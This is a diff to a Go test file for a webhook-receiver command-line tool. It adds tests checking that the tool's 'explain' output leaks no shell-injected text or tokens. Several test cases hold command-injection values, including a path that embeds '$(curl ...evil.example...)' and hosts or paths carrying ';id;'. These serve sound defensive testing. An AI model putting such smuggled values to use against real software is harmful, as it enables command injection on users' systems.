@@ -41,16 +41,17 @@ const (
 
 // A sample is a request to a receiver. A test case changes it.
 type sample struct {
-	env                 environment
-	method, path, query string
-	timestamp           string
-	header              http.Header
-	body                string
+	env          environment
+	method, host string
+	path, query  string
+	timestamp    string
+	header       http.Header
+	body         string
 }
 
 func genuine(t *testing.T) *sample {
 	s := &sample{
-		env: testEnvironment(), method: http.MethodPost, path: "/api/v1/cloudinary", timestamp: strconv.FormatInt(time.Now().Unix(), 10),
+		env: testEnvironment(), method: http.MethodPost, host: "app.example", path: "/api/v1/cloudinary", timestamp: strconv.FormatInt(time.Now().Unix(), 10),
 		header: http.Header{"Content-Type": {"application/x-www-form-urlencoded"}}, body: testBody,
 	}
 	s.token(t, jwt.SigningMethodHS256, testKey, jwt.MapClaims{"album_id": "7", "exp": time.Now().Add(time.Hour).Unix()})
@@ -82,7 +83,7 @@ func (s *sample) token(t *testing.T, method jwt.SigningMethod, key any, claims j
 // file returns the sample as raw HTTP.
 func (s *sample) file() string {
 	var b bytes.Buffer
-	fmt.Fprintf(&b, "%s %s?%s HTTP/1.1\r\nHost: app.example\r\n", s.method, s.path, s.query)
+	fmt.Fprintf(&b, "%s %s?%s HTTP/1.1\r\nHost: %s\r\n", s.method, s.path, s.query, s.host)
 	_ = s.header.Write(&b)
 	return b.String() + "\r\n" + s.body
 }
@@ -581,10 +582,66 @@ func TestExplainUnknown(t *testing.T) {
 	s := genuine(t)
 	s.sign("another")
 	got, _ := s.env.run(t, s.file(), "explain", "-request", "-")
-	for _, says := range []string{"cloudinaryhook send -url https://app.example/api/v1/cloudinary upload", "wrong secret", "changes bodies"} {
+	for _, says := range []string{"cloudinaryhook send -url 'https://app.example/api/v1/cloudinary' upload", "wrong secret", "changes bodies"} {
 		if !strings.Contains(strings.Join(strings.Fields(got), " "), says) {
 			t.Errorf("got %s, want it to say %q", got, says)
 		}
+	}
+}
+
+// TestExplainPrintsNoTextThatIsDangerous: users paste the command that explain
+// prints into a shell, and anybody can send the request that it is made from.
+func TestExplainPrintsNoTextThatIsDangerous(t *testing.T) {
+	token := strings.TrimPrefix(genuine(t).query, "token=")
+	tests := []struct {
+		name   string
+		change func(s *sample)
+	}{
+		{"a command in the path", func(s *sample) { s.path = "/hook;id;$(curl$IFS'evil.example/x')&" }},
+		{"a quote in the path", func(s *sample) { s.path = "/hook';id;'" }},
+		{"a token in the path", func(s *sample) { s.path = "/hook/" + token }},
+		{"the query in the path", func(s *sample) { s.path = "/hook%3F" + s.query }},
+		{"the query in the path, encoded", func(s *sample) { s.path = "/hook%3F" + url.QueryEscape(s.query) }},
+		{"a long path", func(s *sample) { s.path = "/" + strings.Repeat("x", 2000) }},
+		{"a command for a host", func(s *sample) { s.host = "app.example;id;'" }},
+		{"a token for a host", func(s *sample) { s.host = token }},
+		{"a token for a timestamp", func(s *sample) { s.header.Set(cloudinaryhook.TimestampHeader, token) }},
+		{"a token for an encoding", func(s *sample) { s.header.Set("Content-Encoding", token) }},
+		{"a token for an API key", func(s *sample) { s.body = `{"signature_key":"` + token + `"}` }},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			s := genuine(t)
+			s.sign("another")
+			tt.change(s)
+			got, _ := s.env.run(t, s.file(), "explain", "-request", "-", "-all")
+			for _, text := range []string{"id;", "eyJ", "xxxx"} {
+				if strings.Contains(got, text) {
+					t.Errorf("got %s, want no %q in it", got, text)
+				}
+			}
+			if want := "cloudinaryhook send -url "; !strings.Contains(got, want) {
+				t.Errorf("got %s, want %q in it", got, want)
+			}
+		})
+	}
+}
+
+// TestNoTokenIsRefused: only a Tokenless receiver accepts a request without a
+// token, even if no key is set here.
+func TestNoTokenIsRefused(t *testing.T) {
+	s := genuine(t)
+	s.query = "a=1"
+	for _, key := range []string{testKey, ""} {
+		s.env[keyVariable] = key
+		got, status := s.env.run(t, s.file(), "explain", "-request", "-")
+		if status != 1 || !strings.Contains(got, "token-missing: ") || strings.Contains(got, "key-missing: ") != (key == "") {
+			t.Errorf("the key %q got %d and %s, want that the token is missing, and the key if it is", key, status, got)
+		}
+	}
+	got, status := s.env.run(t, s.file(), "explain", "-request", "-", "-tokenless")
+	if status != 0 || !strings.Contains(got, "Accepted: the signature is right") {
+		t.Errorf("tokenless got %d and %s, want it accepted, and nothing said of a token", status, got)
 	}
 }
 
